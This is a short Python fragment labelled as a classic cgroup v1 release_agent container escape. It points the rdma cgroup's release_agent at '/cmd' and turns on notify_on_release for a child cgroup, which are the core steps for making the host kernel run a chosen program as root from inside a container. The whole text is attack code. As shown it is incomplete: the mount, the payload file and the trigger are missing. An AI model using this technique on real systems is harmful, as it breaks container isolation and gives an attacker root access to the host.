# classic cgroup v1 release_agent escape
import os
cg = "/sys/fs/cgroup/rdma"
open(os.path.join(cg, "release_agent"), "w").write("/cmd\n")
open(os.path.join(cg, "x", "notify_on_release"), "w").write("1")
